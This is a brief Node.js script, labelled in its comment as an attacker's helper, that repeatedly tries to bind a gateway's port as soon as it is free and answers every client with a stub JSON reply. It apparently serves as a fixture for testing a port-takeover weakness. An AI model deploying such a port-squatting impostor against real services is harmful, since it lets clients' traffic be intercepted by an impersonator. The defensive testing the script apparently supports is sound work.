// The attacker's helper: takes the gateway's port as soon as nobody has it, and collects what clients send.
import { createServer } from 'node:http';

const port = Number(process.argv[2]);
const take = () => {
  createServer((_request, response) =>
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"ok":true}\n'),
  )
    .on('error', () => setTimeout(take, 20))
    .listen(port, '0.0.0.0');
};
take();
